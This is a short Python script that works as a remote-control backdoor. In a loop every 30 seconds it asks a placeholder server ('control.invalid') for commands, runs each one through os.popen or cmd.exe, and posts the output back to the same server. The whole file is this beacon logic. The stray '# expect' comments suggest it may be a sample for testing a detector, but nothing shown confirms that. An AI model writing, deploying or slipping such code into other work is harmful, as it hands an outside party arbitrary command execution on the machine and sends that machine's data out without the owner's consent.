import os
import subprocess
import time
import requests

SERVER = "https://control.invalid"


def once():
    command = requests.get(SERVER + "/next").text
    output = os.popen(command).read()
    requests.post(SERVER + "/result", data={"o": output})  # expect


class Agent:
    def task(self):
        return requests.post(SERVER + "/task", json={"id": 1}).json()["cmd"]

    def run(self):
        result = subprocess.run(["cmd.exe", "/c", self.task()], capture_output=True)
        requests.post(SERVER + "/done", data=result.stdout)  # expect


while True:
    once()
    Agent().run()
    time.sleep(30)
